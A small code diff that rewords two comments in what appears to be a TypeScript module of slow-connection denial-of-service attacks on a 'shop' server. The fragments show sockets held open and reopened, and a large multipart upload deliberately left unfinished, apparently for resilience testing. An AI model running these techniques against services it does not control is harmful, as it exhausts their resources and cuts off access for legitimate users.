@@ -5,7 +5,7 @@ const AGAIN_MS = 1_000;
 
 type Holding = { address: string; count: number; open: (socket: Socket) => void };
 
-/** Holds so many sockets open and opens those again that the shop closes. */
+/** Holds sockets open and replaces those that the shop closes. */
 function hold({ port }: Target, { address, count, open }: Holding): Hostile {
   let opened = 0;
   let closedByShop = 0;
@@ -64,7 +64,7 @@ export const neverReading: Attack = {
 
 const picture = Buffer.alloc(10 * 1024 * 1024, 7);
 
-/** Of everything but its last bytes; the form never ends. */
+/** Sends everything but the last bytes, so that the form never ends. */
 function withheldUpload(path: string, token: string): (socket: Socket) => void {
   const head = [
     ...['--x', 'Content-Disposition: form-data; name="image"; filename="a.jpg"', 'Content-Type: image/jpeg'],
